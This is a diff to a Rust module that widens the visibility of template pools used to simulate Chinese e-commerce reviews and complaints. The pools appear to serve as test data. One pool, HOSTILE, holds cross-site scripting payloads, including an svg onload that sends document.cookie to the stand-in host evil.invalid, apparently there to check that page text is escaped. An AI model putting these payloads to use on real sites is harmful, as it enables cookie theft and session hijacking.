@@ -3,7 +3,7 @@
 use super::super::goods::Talk;
 
 /// Complaints about service: title and body are drawn separately.
-pub(in crate::simulate) const SERVICE_TITLES: &[&str] = &[
+pub(crate) const SERVICE_TITLES: &[&str] = &[
     "[快递|物流][太慢|停滞{n}天]",
     "[申请退款|退货]{n}天[不处理|被拒]",
     "客服[不理人|态度恶劣]",
@@ -17,7 +17,7 @@ pub(in crate::simulate) const SERVICE_TITLES: &[&str] = &[
 ];
 
 /// Bodies of service complaints.
-pub(in crate::simulate) const SERVICE: &[&str] = &[
+pub(crate) const SERVICE: &[&str] = &[
     "{ago}下的单，[快递|物流]到现在[还停在{city}|没动静]，[催了三次|打电话]都说[在安排|明天到]。",
     "{p}[收到就不想要了|买大了]，申请[七天无理由|退货]，商家[找各种理由拒绝|说影响二次销售]，[平台介入也没用|退款卡了{n}天]。",
     "[联系|问]客服[十几次|三天]，[全是机器人|只会回复亲亲]，[根本不解决|问题还在那]。",
@@ -32,7 +32,7 @@ pub(in crate::simulate) const SERVICE: &[&str] = &[
 ];
 
 /// General questions and advice.
-pub(in crate::simulate) const QUESTIONS: &[&str] = &[
+pub(crate) const QUESTIONS: &[&str] = &[
     "请问{p}[怎么选|哪个牌子好]？[担心|听说]有的会[出问题|不安全]，[想买个放心的|求推荐]。",
     "[如何|怎样]防止[电动车起火|充电宝爆炸]？[看新闻|刷视频]有点[怕|慌]，[有没有懂的|求科普]。",
     "[咨询|问一下]：{p}[过了保修期|三年了]，[如果|万一]以后[漏电|坏了]找谁？",
@@ -42,7 +42,7 @@ pub(in crate::simulate) const QUESTIONS: &[&str] = &[
 ];
 
 /// Fire in figures of speech.
-pub(in crate::simulate) const IDIOMS: &[&str] = &[
+pub(crate) const IDIOMS: &[&str] = &[
     "[这个|]{p}[真的|]火爆[全网|朋友圈]，[终于抢到|蹲了一周]，[没失望|值]。",
     "{p}[颜值|效果|性价比]炸裂，[朋友都问链接|回购了]！",
     "[价格|这性价比]简直[杀疯了|炸裂]，[闭眼入|冲就完了]。",
@@ -52,7 +52,7 @@ pub(in crate::simulate) const IDIOMS: &[&str] = &[
 ];
 
 /// Page text that would like to be a program. It must arrive as text.
-pub(in crate::simulate) const HOSTILE: &[&str] = &[
+pub(crate) const HOSTILE: &[&str] = &[
     "<script>alert('{b}')</script>[客服不回|退款]，{p}[用着还行|没毛病]，就是[物流慢|包装差]。",
     "投诉{shop}<img src=x onerror=\"alert(document.cookie)\">[拖延发货|不退款]",
     "\"><svg/onload=fetch('//evil.invalid/'+document.cookie)> [订单|单号]{n}{n}{n}{n} [不发货|没人管]",
@@ -60,7 +60,7 @@ pub(in crate::simulate) const HOSTILE: &[&str] = &[
 ];
 
 /// The same text under many brands, by one hand.
-pub(in crate::simulate) const PROFESSIONAL: &[&str] = &[
+pub(crate) const PROFESSIONAL: &[&str] = &[
     "经查看，被投诉人销售的{p}未标注强制性产品认证标志，无中文警示说明，违反产品质量法第二十七条、消费者权益保护法第五十五条，要求退还货款并三倍赔偿，不足五百元按五百元计算，请依法立案查处并书面告知结果。",
     "本人购买的{p}标签上未标明生产者名称和地址、执行标准，属于三无产品，涉嫌违反产品质量法，请贵局依法查处，责令被投诉人退一赔三，并给予举报奖励。",
 ];
@@ -237,36 +237,36 @@ fn voice(talk: Talk) -> &'static Voice {
 }
 
 /// Praise.
-pub(in crate::simulate) fn praise(talk: Talk) -> &'static [&'static str] {
+pub(crate) fn praise(talk: Talk) -> &'static [&'static str] {
     voice(talk).praise
 }
 
 /// Praise that names a hazard in order to deny it.
-pub(in crate::simulate) fn negated(talk: Talk) -> &'static [&'static str] {
+pub(crate) fn negated(talk: Talk) -> &'static [&'static str] {
     voice(talk).negated
 }
 
 /// Quality trouble without harm.
-pub(in crate::simulate) fn broken(talk: Talk) -> &'static [&'static str] {
+pub(crate) fn broken(talk: Talk) -> &'static [&'static str] {
     voice(talk).broken
 }
 
 /// What the seller promises.
-pub(in crate::simulate) fn advert(talk: Talk) -> &'static [&'static str] {
+pub(crate) fn advert(talk: Talk) -> &'static [&'static str] {
     voice(talk).advert
 }
 
 /// Lukewarm reviews.
-pub(in crate::simulate) fn meh(talk: Talk) -> &'static [&'static str] {
+pub(crate) fn meh(talk: Talk) -> &'static [&'static str] {
     voice(talk).meh
 }
 
 /// Every pool of one way of talking, for the test.
 #[cfg(test)]
-pub(in crate::simulate) fn by_talk(talk: Talk) -> [&'static [&'static str]; 5] {
+pub(crate) fn by_talk(talk: Talk) -> [&'static [&'static str]; 5] {
     [praise(talk), negated(talk), broken(talk), advert(talk), meh(talk)]
 }
 
 /// Every pool, for the test.
 #[cfg(test)]
-pub(in crate::simulate) const ALL: &[&[&str]] = &[SERVICE_TITLES, SERVICE, QUESTIONS, IDIOMS, HOSTILE, PROFESSIONAL];
+pub(crate) const ALL: &[&[&str]] = &[SERVICE_TITLES, SERVICE, QUESTIONS, IDIOMS, HOSTILE, PROFESSIONAL];
